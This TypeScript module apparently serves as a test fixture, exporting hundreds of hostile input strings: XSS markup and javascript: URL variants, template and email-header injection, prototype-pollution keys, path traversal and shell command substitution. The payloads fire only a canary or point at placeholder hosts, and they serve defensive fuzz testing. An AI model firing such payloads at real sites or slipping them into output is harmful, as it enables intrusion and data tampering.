const call = 'window.canary=1';

const schemes = ['javascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'file:///'];
const tricks: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => ` ${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `${scheme.slice(0, 2)}\t${scheme.slice(2)}`,
  (scheme) => `${scheme.slice(0, 3)}\r\n${scheme.slice(3)}`,
  (scheme) => scheme.replace(':', '&colon;'),
  (scheme) => scheme.replace(':', '%3A'),
  (scheme) => `&#x6A;${scheme.slice(1)}`,
  (scheme) => `\u200B${scheme}`,
  (scheme) => `//${scheme}`,
  (scheme) => `https://ok.example/\n${scheme}`,
];

const half = ['\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDC00\uD800'];
const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code));
const invisible =
  '\u007F\u0085\u00AD\u061C\u200B\u200C\u200D\u200E\u200F\u2028\u2029\u202A\u202B\u202C\u202D\u202E\u2060\u2066\u2067\u2068\u2069\uFEFF\uFFFD\uFFFE\uFFFF'.split(
    '',
  );
const markup = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<img src=x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<math><mtext></table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<object data="javascript:${call}">`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=a>',
  `</title></style></textarea><script>${call}</script>`,
  `--><![endif]--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}`,
  '&amp;amp;&copy;&NotEqualTilde;&#0;&#xD800;&#x110000;',
  `[x](javascript:${call})`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}`,
  `\`\`\`\n<script>${call}</script>`,
  '<?php echo 1 ?><% a %>',
  `<style>*{background:url(https://evil.example/)}</style>`,
  'red;background:url(https://evil.example/)',
  'expression(alert(1))',
  '}*{color:red',
  '@import "https://evil.example/";',
];
const tags = [
  '{{ email }}',
  '{{{ x }}}',
  '{% if a %}',
  '*|EMAIL|*',
  '[[email]]',
  '%%email%%',
  '{$name}',
  '{EMAIL}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{first_name, "x"}',
];
const headers = [
  '\r\nBcc: a@evil.example',
  '\nX-A: b',
  '\r\n\r\n<b>body',
  '=?utf-8?B?DQo=?=',
  '\u2028To: b',
];
const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"a":1}}',
];
const numbers = ['1e999', '-0', 'NaN', 'Infinity', '9'.repeat(400), '0x1F', '1e-400', '٣٤٥'];
const paths = [
  '../../etc/passwd',
  '..\\..\\a',
  'CON',
  'a/b',
  'a\0b',
  '.',
  '..',
  '~',
  '%2e%2e%2f',
  '$HOME',
  '`id`',
  '$(id)',
];
const long = [
  'x'.repeat(20_000),
  'ab '.repeat(5000),
  `e${'\u0301'.repeat(500)}`,
  '👩‍'.repeat(300),
  '('.repeat(2000),
  '['.repeat(2000),
  '*'.repeat(2000),
  '_a'.repeat(1000),
  '> '.repeat(500),
  '<'.repeat(2000),
  '&'.repeat(2000),
  '{{'.repeat(500),
  'https://'.repeat(500),
  '\u202E'.repeat(500),
  '<b>'.repeat(1000),
  '<div><ul><li>'.repeat(500),
  '[x]('.repeat(1000),
  '{"a":'.repeat(2000),
];

const plain = [...half, ...controls, ...invisible];

/** Values that do harm where text is taken for anything else: at least 400, each another. */
export const hostileValues: readonly string[] = [
  ...new Set([
    ...schemes.flatMap((scheme) => tricks.map((trick) => trick(scheme) + call)),
    ...plain,
    ...plain.map((character) => `Wort${character}Wort`),
    ...plain.map((character) => `javascript${character}:${call}`),
    ...plain.map((character) => `https://ok.example/${character}?a=${character}`),
    ...markup,
    ...markup.map((text) => `https://ok.example/${text}`),
    ...tags,
    ...headers,
    ...keys,
    ...numbers,
    ...paths,
    ...long,
  ]),
];
